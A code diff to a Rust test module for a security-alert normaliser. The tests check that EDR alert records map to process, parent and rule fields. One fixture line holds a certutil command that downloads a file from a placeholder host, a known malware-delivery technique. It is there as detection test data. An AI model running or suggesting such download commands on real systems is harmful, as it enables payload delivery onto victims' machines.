@@ -2443,6 +2443,16 @@ mod tests {
         );
         assert_eq!(star.doc["user"]["name"], "rsingh");
         assert_eq!(star.doc["host"]["os"]["type"], "macos");
+        // The target's image path as documented, or the target in the source's field names.
+        for target in [json!({"tgtProcImagePath": "/usr/bin/osascript", "tgtProcCmdLine": "osascript -e 1"}),
+                       json!({"filePath": "/usr/bin/osascript", "commandline": "osascript -e 1"})] {
+            let a = from_json(json!({"alertInfo": {"alertId": "s1-10"},
+                "sourceProcessInfo": {"commandline": "/Volumes/C/C.app/Contents/MacOS/C", "filePath": "/Volumes/C/C.app/Contents/MacOS/C", "user": "mb"},
+                "targetProcessInfo": target}), "x").unwrap();
+            assert_eq!(a.doc["process"]["executable"], "/usr/bin/osascript");
+            assert_eq!(a.doc["process"]["command_line"], "osascript -e 1");
+            assert_eq!(a.doc["process"]["parent"]["name"], "C");
+        }
         assert_eq!(star.doc["rule"]["name"], "Login shell from a GUI app");
         let cb = from_json(json!({"id": "cb-1", "device_name": "HR-LT-207", "device_os": "WINDOWS",
             "process_name": "certutil.exe", "process_cmdline": "certutil.exe -urlcache -f http://x.example/p.bin p.exe",
